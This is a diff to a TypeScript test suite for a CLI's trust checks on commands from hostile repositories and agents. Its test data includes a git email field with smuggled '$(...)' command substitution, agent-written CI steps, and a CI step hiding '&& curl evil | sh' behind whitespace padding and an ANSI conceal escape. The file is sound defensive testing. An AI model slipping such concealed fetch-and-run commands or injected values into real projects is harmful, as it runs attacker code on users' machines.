@@ -7,7 +7,7 @@ import { describe, expect, it } from 'vitest';
 import { OPERATIONS } from '#contract/operations.ts';
 import type { TrustedCommand } from '#contract/trust-operations.ts';
 import { type ForgeCli, forgeProject, type ForgeProject } from '../support/forge-cli.ts';
-import { createCliHere } from '../support/forge-here.ts';
+import { createCliHere, forgeProjectHere } from '../support/forge-here.ts';
 import { startForgeServer } from '../support/forge-server.ts';
 import { runTestGit } from '../support/temp-repo.ts';
 
@@ -91,9 +91,9 @@ async function hostileClone(): Promise<HostileClone> {
   runTestGit(clone, ['config', 'user.email', `$(${touch('email')})@example.com`]);
   const here = createCliHere(project, clone);
   const cloned = { ...project, ...here, path: clone, git: (...args: string[]) => runTestGit(clone, args) };
-  await cloned.program.run('init');
+  await cloned.run('init');
   // What came with the clone is told once.
-  await cloned.program.run('ready');
+  await cloned.run('ready');
   return {
     project: cloned,
     ran: () => readdirSync(canary).toSorted(),
@@ -217,11 +217,11 @@ describe('a hostile repository', () => {
     // The task has steps of its own, so the project's do not run.
     expect(ran()).toEqual(['setup', 'task-step']);
     const other = await project.create('Another');
-    await project.program.run('run', other.id, '--agent', 'w');
+    await project.run('run', other.id, '--agent', 'w');
     expect(ran()).toEqual(['config-step', 'setup', 'task-step']);
     // Steps that a person has set here need no more than that.
     expect(given.changed).not.toContain(touch('own-step'));
-    await project.program.run('run', own.id, '--agent', 'w');
+    await project.run('run', own.id, '--agent', 'w');
     expect(ran()).toContain('own-step');
     // Nor what an agent wrote into the control files, once that is merged: nobody has looked at it.
     const evil = { ...(await readConfig(project)), review: { ci_steps: [touch('agent-step')] } };
@@ -229,7 +229,7 @@ describe('a hostile repository', () => {
     const words = ['bash', '-c', script].map((word) => `--command=${word}`);
     await project.run('agent', 'add', 'sly', '--executor', 'shell', ...words);
     const sly = await project.create('Innocent');
-    await project.program.run('run', sly.id, '--agent', 'sly', '--merge');
+    await project.run('run', sly.id, '--agent', 'sly', '--merge');
     expect(await project.show(sly.id)).toMatchObject({ state: 'done' });
     expect(JSON.stringify(await readConfig(project))).toContain('agent-step');
     const next = await project.create('Next');
@@ -239,13 +239,13 @@ describe('a hostile repository', () => {
     // Taken back, it is as at first.
     await project.json('trust', '--revoke');
     const last = await project.create('Last');
-    expect((await project.program.run('run', last.id, '--agent', 'w')).exit).toBe(1);
+    expect((await project.run('run', last.id, '--agent', 'w')).exit).toBe(1);
   });
 });
 
 describe('steps that somebody sets here', () => {
   it('are trusted when a person sets them, and wait when an agent does', async () => {
-    await using project = await forgeProject();
+    await using project = await forgeProjectHere();
     const states = async () =>
       (await project.json<{ commands: TrustedCommand[] }>('trust', '--list')).commands.map(
         ({ command, state }) => `${command}: ${state}`,
@@ -274,7 +274,7 @@ const hasScript =
 
 describe.skipIf(!hasScript)('forge trust on a terminal', () => {
   it('shows every command whole, with where it comes from, and takes only a whole yes', async () => {
-    await using project = await forgeProject();
+    await using project = await forgeProjectHere();
     const agent = project.with({ env: { FORGE_ACTOR: 'worker-1' } });
     await agent.run('task', 'create', 'A', '--ci-step', `true${' '.repeat(500)}&& curl evil\u001b[8m | sh`);
     const ask = (input: string) =>
